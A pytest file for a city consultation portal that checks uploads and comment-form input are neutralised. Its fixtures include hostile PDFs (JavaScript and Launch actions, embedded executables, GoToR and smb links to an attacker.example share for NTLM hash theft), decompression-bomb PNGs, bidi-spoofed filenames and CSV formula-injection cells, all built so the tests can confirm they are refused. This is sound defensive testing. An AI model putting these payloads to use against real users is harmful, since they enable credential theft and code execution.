"""Untrusted files neutralised (issue 12.5): PDFs with active content, images too large to decode, names that
disguise themselves, files waiting in quarantine for the virus check, downloads that cannot run in the
portal's origin; and the neighbours of the comment form (12.7): CSV cells Excel would run, one-time form
timing tokens, the names people type.

The virus scanner here is a fake (VIRUS_SCANNER: it "finds" the EICAR string); tests/test_virus_scan.py runs
the same flows against a real clamd."""

import io
import re
import struct
import time
import zlib
from datetime import timedelta

import pytest
import sqlalchemy as sa
from itsdangerous import URLSafeSerializer

from portal.audit.models import AuditEntry
from portal.commands import scan_uploads
from portal.comments.models import Comment
from portal.core import timefmt
from portal.core.downloads import excel_csv
from portal.demo.pdf import make_pdf
from portal.documents.models import Document
from portal.documents.services import upload_folder
from portal.extensions import db
from tests.helpers import post_form
from tests.test_admin_content import DOC, stored_files, upload

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SUBMITTER = {"name": "多摩 花子", "address": "多摩市関戸6-12-1", "email": "hanako@example.jp", "phone": "",
             "eligibility": "resident"}
TEXT = "夜の開催を増やしてください。"


def fake_clamd(data: bytes):
    """What clamd with the one EICAR signature answers."""
    return "Eicar-Test-Signature" if EICAR in data else None


@pytest.fixture(autouse=True)
def _fake_scanner(app):
    app.config.update(VIRUS_SCANNER=fake_clamd, CLAMD_SOCKET="", CLAMD_HOST="")




def tiny_pdf(catalog_extra: bytes = b"", objects: dict | None = None, compressed: dict | None = None) -> bytes:
    """A one-page PDF written byte by byte: `catalog_extra` goes into the catalog, `objects` ({number: body}) are
    plain objects from 4 on, `compressed` ones go into a compressed object stream (found only by a real reader)."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
               2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>", **(objects or {})}
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if not compressed:
        size = max(objects) + 1
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += b"%010d 00000 n \n" % offsets[number]
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
        return bytes(out)
    numbers = sorted(compressed)
    bodies, header, position = b"", b"", 0
    for number in numbers:
        header += b"%d %d " % (number, position)
        bodies += compressed[number] + b"\n"
        position = len(bodies)
    data = zlib.compress(header + bodies)
    stream_number = max([*objects, *numbers]) + 1
    offsets[stream_number] = len(out)
    out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (stream_number, len(numbers), len(header), len(data))) + data + b"\nendstream\nendobj\n"
    xref_number = stream_number + 1
    offsets[xref_number] = len(out)
    rows = b"\x00\x00\x00\xff\xff"
    for number in range(1, xref_number + 1):
        if number in compressed:
            rows += struct.pack(">BHH", 2, stream_number, numbers.index(number))
        else:
            rows += struct.pack(">BHH", 1, offsets[number], 0)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 2 2] /Root 1 0 R /Length %d >>\nstream\n"
            % (xref_number, xref_number + 1, len(rows))) + rows + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def eicar_pdf() -> bytes:
    """A readable PDF carrying the EICAR test string (as a comment after its end, where a reader ignores it)."""
    return make_pdf("資料", ["本文"]) + b"\n%" + EICAR + b"\n"


def png(width: int, height: int) -> bytes:
    """A PNG whose header declares width × height, with one row of real data: tiny on disk, huge if decoded."""
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * (width + 1)))
            + chunk(b"IEND", b""))


def small_png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(out, "PNG")
    return out.getvalue()


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ACTIVE_PDFS = {
    "javascript open action": lambda: tiny_pdf(b"/OpenAction 4 0 R", {4: JS}),
    "hex-escaped /J#61vaScript": lambda: tiny_pdf(b"/OpenAction 4 0 R", {4: JS.replace(b"/JavaScript", b"/J#61vaScript")
                                                                         .replace(b"/JS ", b"/J#53 ")}),
    "launch": lambda: tiny_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "additional actions /AA": lambda: tiny_pdf(b"/AA << /WC 4 0 R >>", {4: b"<< /S /URI /URI (http://x.example) >>"}),
    "embedded file": lambda: tiny_pdf(b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
                                      {4: b"<< /Type /Filespec /F (a.exe) >>"}),
    "xfa form": lambda: tiny_pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>", {4: b"<< >>"}),
    "rich media": lambda: tiny_pdf(b"/RichMedia 4 0 R", {4: b"<< >>"}),
    "javascript in a compressed object stream": lambda: tiny_pdf(b"/OpenAction 4 0 R", compressed={4: JS}),
    # "BadPDF": a harmless-looking open action whose /Next fetches a file from a Windows share (the reader sends
    # its NTLM hash) or calls a tracker
    "go-to open action chained to a GoToR on a share": lambda: tiny_pdf(b"/OpenAction 4 0 R", {
        4: b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
        5: b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"}),
    "go-to open action chained to a URI": lambda: tiny_pdf(b"/OpenAction 4 0 R", {
        4: b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>", 5: b"<< /S /URI /URI (https://tracker.example/open) >>"}),
    "go-to open action chained in an object stream": lambda: tiny_pdf(b"/OpenAction 4 0 R", compressed={
        4: b"<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>", 5: b"<< /S /GoToR /F (//attacker.example/x.pdf) >>"}),
    "GoToR open action": lambda: tiny_pdf(b"/OpenAction 4 0 R", {4: b"<< /S /GoToR /F (x.pdf) /D [0 /Fit] >>"}),
    "URI open action": lambda: tiny_pdf(b"/OpenAction 4 0 R", {4: b"<< /S /URI /URI (https://tracker.example) >>"}),
    "thread open action with a file": lambda: tiny_pdf(b"/OpenAction 4 0 R", {4: b"<< /S /Thread /F (x.pdf) /D 0 >>"}),
    "rendition open action": lambda: tiny_pdf(b"/OpenAction 4 0 R", {4: b"<< /S /Rendition /OP 0 >>"}),
    "javascript: link": lambda: link_pdf(b"javascript:app.alert(1)"),
    "JavaScript: link with spaces and tabs": lambda: link_pdf(b" \t JaVaScRiPt:app.alert(1)"),
    "file: link": lambda: link_pdf(b"file:///C:/Windows/System32/calc.exe"),
    "smb: link": lambda: link_pdf(b"smb://attacker.example/share"),
    "link to a network path": lambda: link_pdf(b"\\\\attacker.example\\share"),
    "relative link (resolved against the file's own folder)": lambda: link_pdf(b"../../Windows/System32/calc.exe"),
    "link base on a share": lambda: tiny_pdf(b"/URI << /Base (file://attacker.example/) >>"),
}
ACCEPTED_PDFS = {
    "a plain page": lambda: tiny_pdf(),
    "an open action that only shows the first page": lambda: tiny_pdf(b"/OpenAction [3 0 R /Fit]"),
    "a go-to open action in an object stream": lambda: tiny_pdf(
        b"/OpenAction 4 0 R", compressed={4: b"<< /S /GoTo /D [3 0 R /Fit] >>"}),
    "a Japanese document made by the portal": lambda: make_pdf("会議資料", ["本文"] * 20, pages=2),
    "links to a web page and an address": lambda: link_pdf(b"https://www.city.example.lg.jp/", b"mailto:a@example.jp"),
    "a link to another PDF, clicked by the reader": lambda: tiny_pdf(
        b"", {3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
              4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (besshi.pdf) /D [0 /Fit] >> >>"}),
    "an outline (its items chain with /Next too)": lambda: tiny_pdf(b"/Outlines 4 0 R", {
        4: b"<< /Type /Outlines /First 5 0 R /Last 6 0 R /Count 2 >>",
        5: b"<< /Title (a) /Parent 4 0 R /Next 6 0 R /Dest [3 0 R /Fit] >>",
        6: b"<< /Title (b) /Parent 4 0 R /Prev 5 0 R /Dest [3 0 R /Fit] >>"}),
}
#: files pypdf cannot parse, each raising what a narrow except once let through as a 500
BROKEN_PDFS = {
    "an xref declaring a million entries (LimitReachedError)": lambda: tiny_pdf().replace(b"xref\n0 4", b"xref\n0 999999"),
    "an object that is only a reference (AttributeError)": lambda: tiny_pdf(b"/X 4 0 R", {4: b"5 0 R", 5: b"<< >>"}),
    "a reference loop in the page tree": lambda: tiny_pdf(b"", {2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}),
    "a truncated file": lambda: tiny_pdf()[:60],
}


def link_pdf(*uris: bytes) -> bytes:
    """One page with a link annotation for each URI."""
    links = {4 + n: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (%s) >> >>" % uri
             for n, uri in enumerate(uris)}
    annots = b" ".join(b"%d 0 R" % number for number in links)
    return tiny_pdf(b"", {3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [%s] >>" % annots, **links})


def form_values(client, consultation, lang="/en") -> dict:
    page = client.get(f"{lang}/consultations/{consultation.id}/comment").get_data(as_text=True)
    return dict(re.findall(r'<input (?:id="[^"]*" )?name="(form_token|started|csrf_token)" type="hidden" '
                           r'value="([^"]*)"', page))


def send(client, consultation, step="send", values=None, lang="/en", **fields):
    values = values or form_values(client, consultation, lang)
    data = {**values, "text": TEXT, **SUBMITTER, "step": step, **fields}
    return client.post(f"{lang}/consultations/{consultation.id}/comment", data=data, content_type="multipart/form-data")


def send_with_attachment(client, consultation, content, filename="意見書.pdf"):
    """Check step with the file, then send; (check page, the stored comment or None)."""
    values = form_values(client, consultation)
    check = send(client, consultation, step="check", values=values, attachment=(io.BytesIO(content), filename))
    body = check.get_data(as_text=True)
    ref = re.search(r'name="attachment_ref" value="([^"]+)"', body)
    if ref is None:
        return body, None
    done = send(client, consultation, values=values, attachment_ref=ref.group(1))
    assert done.status_code == 302, done.get_data(as_text=True)
    db.session.expire_all()
    return body, db.session.scalar(sa.select(Comment).order_by(Comment.id.desc()))


def comment_count() -> int:
    db.session.expire_all()
    return db.session.scalar(sa.select(sa.func.count(Comment.id)))


def document_count() -> int:
    return db.session.scalar(sa.select(sa.func.count(Document.id)))


# PDFs with active content: refused, not stripped


@pytest.mark.parametrize("case", list(ACTIVE_PDFS), ids=list(ACTIVE_PDFS))
def test_pdfs_with_active_content_are_refused_as_documents_and_attachments(app, client, auth, factory, case):
    content = ACTIVE_PDFS[case]()
    consultation = factory.consultation()
    body, comment = send_with_attachment(app.test_client(), consultation, content)
    assert comment is None and "active content" in body and TEXT in body
    auth.as_role(client, "editor")
    response = upload(client, factory.meeting().id, "資料.pdf", content)
    assert response.status_code == 200 and "動的な内容が含まれている" in response.get_data(as_text=True)
    assert document_count() == 0 and comment_count() == 0
    assert stored_files(app) == []


@pytest.mark.parametrize("case", list(ACCEPTED_PDFS), ids=list(ACCEPTED_PDFS))
def test_plain_pdfs_are_accepted(app, client, auth, factory, case):
    auth.as_role(client, "editor")
    assert upload(client, factory.meeting().id, "資料.pdf", ACCEPTED_PDFS[case]()).status_code == 302
    assert document_count() == 1


@pytest.mark.parametrize("case", list(BROKEN_PDFS), ids=list(BROKEN_PDFS))
def test_pdfs_the_reader_cannot_parse_are_refused_on_the_form_not_a_500(app, client, auth, factory, case):
    """Anonymous on the comment form, staff on the upload form: the form again with a message, text kept."""
    content = BROKEN_PDFS[case]()
    assert content.startswith(b"%PDF-") and len(content) < 2_000
    body, comment = send_with_attachment(app.test_client(), factory.consultation(), content)
    assert comment is None and TEXT in body
    assert "The PDF could not be read." in body  # it says it is a PDF: told what is wrong with it
    auth.as_role(client, "editor")
    response = upload(client, factory.meeting().id, "資料.pdf", content)
    assert response.status_code == 200 and "PDFを読み取れませんでした" in response.get_data(as_text=True)
    assert document_count() == 0 and stored_files(app) == []


# Images: dimensions read from the header, before decoding


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")  # Pillow's own alarm, above 40 MP
@pytest.mark.parametrize("width,height", [(65535, 65535), (10001, 10), (8000, 6000)])
def test_images_declaring_too_many_pixels_are_refused_without_decoding(app, factory, width, height):
    content = png(width, height)
    assert len(content) < 200_000  # tiny on disk; decoding 65535² would take 12 GB
    body, comment = send_with_attachment(app.test_client(), factory.consultation(), content, "photo.png")
    assert comment is None and "The image is too large" in body and TEXT in body
    assert stored_files(app) == []


def test_a_normal_photo_is_accepted(app, factory):
    _, comment = send_with_attachment(app.test_client(), factory.consultation(), small_png(), "photo.png")
    assert comment.attachment_type == "image/png" and comment.attachment_scan == "clean"


# Names: bidi overrides, zero-width and control characters removed


@pytest.mark.parametrize("typed,shown", [
    ("invoice\u202efdp.pdf", "invoicefdp.pdf"),
    ("資料\u200b\u200d\u2066.pdf", "資料.pdf"),
    ("\ufeff議事録\u00ad.pdf", "議事録.pdf"),
])
def test_file_display_names_lose_invisible_characters(app, client, auth, factory, typed, shown):
    auth.as_role(client, "editor")
    assert upload(client, factory.meeting().id, typed, make_pdf("x", ["x"])).status_code == 302
    document = db.session.scalar(sa.select(Document))
    assert document.original_filename == shown
    download = client.get(f"/documents/{document.id}")
    assert "\u202e" not in download.headers["Content-Disposition"]
    _, comment = send_with_attachment(app.test_client(), factory.consultation(), make_pdf("x", ["x"]), typed)
    assert comment.attachment_filename == shown


@pytest.mark.parametrize("typed", ["資料\t.pdf", "資料\x07.pdf", "資料\x1b[31m.pdf"])
def test_a_file_name_with_control_characters_is_refused_with_its_own_message(app, client, auth, factory, typed):
    auth.as_role(client, "editor")
    meeting = factory.meeting()
    response = post_form(client, f"/en/admin/documents/new?meeting={meeting.id}",
                         {**DOC, "file": (io.BytesIO(make_pdf("x", ["x"])), typed)}, content_type="multipart/form-data")
    body = response.get_data(as_text=True)
    assert response.status_code == 200 and "must not contain control characters" in body
    assert "must not contain /" not in body and document_count() == 0
    body, comment = send_with_attachment(app.test_client(), factory.consultation(), make_pdf("x", ["x"]), typed)
    assert comment is None and "must not contain control characters" in body and TEXT in body


def test_names_typed_on_the_comment_form_are_cleaned(client, factory):
    consultation = factory.consultation()
    send(client, consultation, name="多摩\u200b 花子\u202e", address="関戸\u2066６－１２\u0007")
    comment = db.session.scalar(sa.select(Comment))
    assert comment.name == "多摩 花子" and comment.address == "関戸6-12"


def test_a_name_of_invisible_characters_only_is_refused(client, factory):
    response = send(client, factory.consultation(), name="\u200b\u202e")
    assert "Enter your name." in response.get_data(as_text=True) and comment_count() == 0


# The virus check: refused when infected, quarantined when no scanner answers


def test_an_infected_attachment_is_refused_deleted_and_audited(app, factory):
    body, comment = send_with_attachment(app.test_client(), factory.consultation(), eicar_pdf())
    assert comment is None and "A virus was found in this file" in body and TEXT in body
    assert stored_files(app) == []
    entry = db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "virus_found"))
    assert entry.object_label == "意見書.pdf" and entry.changes == {"virus": ["Eicar-Test-Signature", None]}
    assert entry.actor_name == "anonymous"


def test_an_infected_staff_document_is_refused_in_both_languages(app, client, auth, factory):
    auth.as_role(client, "editor")
    meeting = factory.meeting()
    response = upload(client, meeting.id, "資料.pdf", eicar_pdf())
    body = response.get_data(as_text=True)
    assert response.status_code == 200 and 'class="field-error"' in body and f'value="{DOC["title_ja"]}"' in body
    assert document_count() == 0 and stored_files(app) == []
    english = post_form(client, f"/en/admin/documents/new?meeting={meeting.id}",
                        {**DOC, "file": (io.BytesIO(eicar_pdf()), "a.pdf")}, content_type="multipart/form-data")
    assert "A virus was found in this file" in english.get_data(as_text=True)


def test_without_a_scanner_an_attachment_waits_in_quarantine_until_scanned(app, client, auth, factory):
    app.config["VIRUS_SCANNER"] = None  # no daemon configured: nothing is accepted unscanned
    consultation = factory.consultation()
    _, comment = send_with_attachment(app.test_client(), consultation, make_pdf("意見", ["添付"]))
    assert comment.attachment_scan == "pending" and (upload_folder() / comment.attachment_name).is_file()
    auth.as_role(client, "moderator")
    page = f"/en/admin/consultations/{consultation.id}/comments/{comment.id}"
    assert "Waiting for the virus check" in client.get(page).get_data(as_text=True)
    file_url = f"/admin/consultations/{consultation.id}/comments/{comment.id}/attachment"
    assert client.get(file_url).status_code == 404  # not even for staff
    runner = app.test_cli_runner()
    still_down = runner.invoke(scan_uploads)
    assert still_down.exit_code == 1 and "no virus scanner is configured" in still_down.output
    app.config["VIRUS_SCANNER"] = fake_clamd  # the daemon is back
    result = runner.invoke(scan_uploads)
    assert result.exit_code == 0 and "comment attachments: 1 clean" in result.output
    db.session.expire_all()
    assert db.session.get(Comment, comment.id).attachment_scan == "clean"
    download = client.get(file_url)
    assert download.status_code == 200 and download.data.startswith(b"%PDF-")
    assert download.headers["Content-Security-Policy"] == "sandbox"
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert download.headers["Content-Disposition"].startswith("attachment;")


def test_a_quarantined_file_found_infected_later_is_deleted(app, client, auth, factory):
    app.config["VIRUS_SCANNER"] = None
    consultation = factory.consultation()
    _, comment = send_with_attachment(app.test_client(), consultation, eicar_pdf())
    path = upload_folder() / comment.attachment_name
    assert comment.attachment_scan == "pending" and path.is_file()
    app.config["VIRUS_SCANNER"] = fake_clamd
    assert app.test_cli_runner().invoke(scan_uploads).exit_code == 0
    db.session.expire_all()
    assert db.session.get(Comment, comment.id).attachment_scan == "infected" and not path.exists()
    auth.as_role(client, "moderator")
    page = client.get(f"/en/admin/consultations/{consultation.id}/comments/{comment.id}").get_data(as_text=True)
    assert "A virus was found in this file, so it was deleted." in page


def test_without_a_scanner_a_staff_document_is_not_public_until_scanned(app, client, auth, factory):
    app.config["VIRUS_SCANNER"] = None
    auth.as_role(client, "editor")
    meeting = factory.meeting()
    response = post_form(client, f"/en/admin/documents/new?meeting={meeting.id}",
                         {**DOC, "status": "published", "file": (io.BytesIO(make_pdf("x", ["x"])), "資料.pdf")},
                         content_type="multipart/form-data")
    assert response.status_code == 302
    staff_page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "waiting for the virus check" in staff_page  # the flash, and the state in the list
    document = db.session.scalar(sa.select(Document))
    assert document.scan_status == "pending" and document.status == "published"
    public = app.test_client()
    assert public.get(f"/documents/{document.id}").status_code == 404
    app.config["VIRUS_SCANNER"] = fake_clamd
    result = app.test_cli_runner().invoke(args=["scan-uploads"])  # as cron runs it: `flask scan-uploads`
    assert result.exit_code == 0 and "documents: 1 clean" in result.output
    assert public.get(f"/documents/{document.id}").status_code == 200


def test_files_stored_before_the_virus_check_count_as_scanned(demo_app):
    """The demo's documents (and, through the migration's default, every older row) are clean."""
    states = set(db.session.scalars(sa.select(Document.scan_status)))
    assert states == {"clean"}


# Every download sandboxed


def test_exports_are_sandboxed_downloads(client, auth, factory):
    consultation = factory.consultation()
    send(client, consultation, text="＝HYPERLINK(\"http://evil.example\")")
    auth.as_role(client, "moderator")
    export = client.get(f"/admin/consultations/{consultation.id}/comments.csv")
    assert export.headers["Content-Security-Policy"] == "sandbox"
    assert export.headers["X-Content-Type-Options"] == "nosniff"
    assert export.headers["Content-Disposition"].startswith("attachment;")
    assert "'＝HYPERLINK" in export.data.decode("utf-8-sig")


# CSV cells Excel would run


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\t=1",
                                  "\r=1", "  =1", " +1", "\u3000＝1", "\u3000 @x", "﹦1"])
def test_csv_cells_that_excel_would_run_are_neutralised(cell):
    text = excel_csv(["h"], [[cell]]).decode("utf-8-sig")
    assert text.split("\r\n")[1].lstrip('"').startswith("'" + cell[:1])


@pytest.mark.parametrize("cell", ["多摩 花子", "1-2", "  hello", "042-338-6811", "", "a=b"])
def test_ordinary_csv_cells_are_kept(cell):
    assert excel_csv(["h"], [[cell]]).decode("utf-8-sig").split("\r\n")[1].strip('"') == cell


# One-time form timing tokens


def old_timing_token(app, form_token: str, seconds_ago: float = 3600) -> str:
    return URLSafeSerializer(app.config["SECRET_KEY"], salt="comment-form").dumps([time.time() - seconds_ago, form_token])


def test_one_old_timing_token_cannot_send_a_second_comment(app, client, factory):
    app.config["COMMENT_MIN_SECONDS"] = 60
    consultation = factory.consultation()
    values = form_values(client, consultation)
    values["started"] = old_timing_token(app, values["form_token"])  # a form opened an hour ago
    assert send(client, consultation, values=values).status_code == 302
    again = send(client, consultation, values=values, text="二つ目の意見です。")  # the same token, new text
    assert "This form has already been used to send a comment" in again.get_data(as_text=True)
    check_again = send(client, consultation, step="check", values=values, text="三つ目の意見です。")
    assert "This form has already been used to send a comment" in check_again.get_data(as_text=True)
    other_key = send(client, consultation, values={**values, "form_token": "a-new-key-of-my-own"}, text="四つ目")
    assert "The form could not be checked" in other_key.get_data(as_text=True)
    assert comment_count() == 1


def hidden_tokens(page: str) -> dict:
    return dict(re.findall(r'name="(form_token|started)" type="hidden" value="([^"]*)"', page))


@pytest.fixture
def clock(monkeypatch):
    """Moves the portal's clock forward: `clock(61)`; nothing sleeps."""
    start, offset = timefmt.now_utc(), [0.0]
    monkeypatch.setattr(timefmt, "now_utc", lambda: start + timedelta(seconds=offset[0]))
    return lambda seconds: offset.__setitem__(0, offset[0] + seconds)


def test_a_refused_reuse_hands_out_a_fresh_form_a_person_can_send_after_reading(app, client, factory, clock):
    app.config["COMMENT_MIN_SECONDS"] = 60
    consultation = factory.consultation()
    values = form_values(client, consultation)
    values["started"] = old_timing_token(app, values["form_token"])
    send(client, consultation, values=values)
    refused = send(client, consultation, values=values, text="二つ目の意見です。").get_data(as_text=True)
    fresh = hidden_tokens(refused)
    assert fresh["form_token"] != values["form_token"]
    at_once = send(client, consultation, values={**values, **fresh}, text="二つ目の意見です。")  # a robot
    assert "sent very quickly" in at_once.get_data(as_text=True) and comment_count() == 1
    clock(61)  # a person reads the message, checks the text and sends again
    assert send(client, consultation, values={**values, **fresh}, text="二つ目の意見です。").status_code == 302
    assert comment_count() == 2


def test_a_robot_resending_the_returned_form_at_once_stays_refused(app, client, factory, clock):
    """The renewed token is never backdated: sending what a refusal returns, again and again, gains nothing."""
    app.config["COMMENT_MIN_SECONDS"] = 60
    consultation = factory.consultation()
    page = client.get(f"/en/consultations/{consultation.id}/comment").get_data(as_text=True)
    values = dict(re.findall(r'name="(form_token|started|csrf_token)" type="hidden" value="([^"]*)"', page))
    for _ in range(3):
        response = send(client, consultation, values=values)
        assert response.status_code == 200 and "sent very quickly" in response.get_data(as_text=True)
        values = {**values, **hidden_tokens(response.get_data(as_text=True))}
        clock(10)
    assert comment_count() == 0
    clock(31)  # 60 seconds after the form was first shown: the refusals kept that time, not the last one
    assert send(client, consultation, values=values).status_code == 302 and comment_count() == 1


def test_a_forged_timing_token_is_renewed_from_now(app, client, factory, clock):
    app.config["COMMENT_MIN_SECONDS"] = 60
    consultation = factory.consultation()
    values = form_values(client, consultation)
    forged = send(client, consultation, values={**values, "started": "forged"})
    assert "The form could not be checked" in forged.get_data(as_text=True)
    renewed = {**values, **hidden_tokens(forged.get_data(as_text=True))}
    assert "sent very quickly" in send(client, consultation, values=renewed).get_data(as_text=True)
    clock(61)
    assert send(client, consultation, values=renewed).status_code == 302


def test_going_back_from_the_confirm_page_to_edit_is_not_punished(app, client, factory):
    app.config["COMMENT_MIN_SECONDS"] = 60
    consultation = factory.consultation()
    values = form_values(client, consultation)
    values["started"] = old_timing_token(app, values["form_token"])
    assert send(client, consultation, step="check", values=values).status_code == 200
    edit = send(client, consultation, step="edit", values=values)
    assert edit.status_code == 200 and TEXT in edit.get_data(as_text=True)
    assert send(client, consultation, step="check", values=values, text=TEXT + "追記").status_code == 200
    assert send(client, consultation, values=values, text=TEXT + "追記").status_code == 302
    assert comment_count() == 1


def test_the_same_form_sent_twice_still_gives_the_first_receipt(client, factory):
    consultation = factory.consultation()
    values = form_values(client, consultation)
    first, second = send(client, consultation, values=values), send(client, consultation, values=values)
    assert first.headers["Location"] == second.headers["Location"] and comment_count() == 1
